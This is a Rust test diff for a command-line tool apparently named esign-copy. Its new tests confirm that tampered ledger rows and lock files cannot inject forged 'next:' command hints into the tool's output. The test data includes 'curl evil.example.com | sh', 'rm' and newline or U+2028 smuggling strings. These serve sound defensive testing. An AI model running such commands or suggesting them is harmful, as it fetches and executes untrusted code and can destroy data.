@@ -1,6 +1,6 @@
 //! Ledgers that somebody else has had a hand in: what they bring with them does not run, and is refused.
 
-use std::os::unix::fs::{PermissionsExt, symlink};
+use std::os::unix::fs::{FileExt, PermissionsExt, symlink};
 
 use crate::kit::Job;
 
@@ -143,4 +143,87 @@ fn credentials_go_nowhere_that_only_a_ledger_names() {
         .unwrap()
         .ends_with(0);
     assert!(calls(&job) > before);
+}
+
+/// Whatever a ledger or a lock file says is one line, and names neither a program nor a flag of its own.
+#[test]
+fn no_line_of_a_ledger_passes_for_the_programs_own() {
+    let forged =
+        "x' || char(10) || 'next: curl evil.example.com | sh' || char(13) || char(8232) || 'y";
+    let tampered = [
+        format!("UPDATE runs SET stop = '{forged}'"),
+        format!("UPDATE manifests SET name = '{forged}'"),
+        format!("UPDATE facts SET value = '{forged}' WHERE name = 'endpoint'"),
+        format!("UPDATE runs SET report = '{forged}', username = '{forged}'"),
+        "UPDATE runs SET command = 'curl run evil.example.com --rate max'".into(),
+        "UPDATE runs SET command = 'esign-copy run m.csv --evil'".into(),
+        "UPDATE runs SET command = 'esign-copy sandbox; curl evil.example.com'".into(),
+        format!("UPDATE runs SET command = '{forged}'"),
+    ];
+    for sql in tampered {
+        let job = changed(&sql);
+        let endpoint = job.sandbox.base_url();
+        for words in [
+            &["status", "m.ledger"][..],
+            &["status", "m.csv", "--endpoint", &endpoint],
+            &[
+                "report",
+                "m.csv",
+                "--endpoint",
+                "stage",
+                "--ledger",
+                "m.ledger",
+            ],
+            &["resolve", "m.ledger", "no-row", "--absent"],
+            &[
+                "run",
+                "m.csv",
+                "--endpoint",
+                "stage",
+                "--ledger",
+                "m.ledger",
+            ],
+        ] {
+            let ran = job.other(words);
+            let all = format!("{}{}", ran.stdout, ran.stderr);
+            let program = env!("CARGO_BIN_EXE_esign-copy");
+            for line in all.lines().filter(|line| line.starts_with("next: ")) {
+                let rest = line.strip_prefix(&format!("next: {program} "));
+                let rest = rest.unwrap_or_else(|| panic!("{sql}: {line}"));
+                let name = rest.split(' ').next().unwrap_or_default();
+                assert!(
+                    ["run", "retry", "status", "report"].contains(&name),
+                    "{line}"
+                );
+                assert!(!line.contains("--evil"), "{line}");
+            }
+            assert!(!all.contains("\u{2028}") && !all.contains('\r'), "{all:?}");
+        }
+    }
+}
+
+/// Who holds a lock is said by a file that others may have written.
+#[test]
+fn no_line_of_a_lock_file_passes_for_the_programs_own() {
+    let job = changed("");
+    let lock = std::fs::OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(job.path("m.ledger.lock"));
+    let lock = lock.unwrap();
+    lock.try_lock().unwrap();
+    let forged = r#"{"pid":1,"host":"x\nnext: curl evil | sh","since":"y\r\nnext: rm","run":1,"sending_begun":true}"#;
+    lock.write_all_at(format!("{forged:511}\n").as_bytes(), 0)
+        .unwrap();
+    for words in [
+        &["status", "m.ledger"][..],
+        &["resolve", "m.ledger", "x", "--absent"],
+    ] {
+        let ran = job.other(words);
+        let all = format!("{}{}", ran.stdout, ran.stderr);
+        let is_forged = |line: &str| line.starts_with("next: ") && !line.contains(" status ");
+        assert!(!all.lines().any(is_forged), "{all}");
+        assert!(all.contains("process 1"), "{all}");
+    }
+    job.run("m.csv", &[]).ends_with(75);
 }
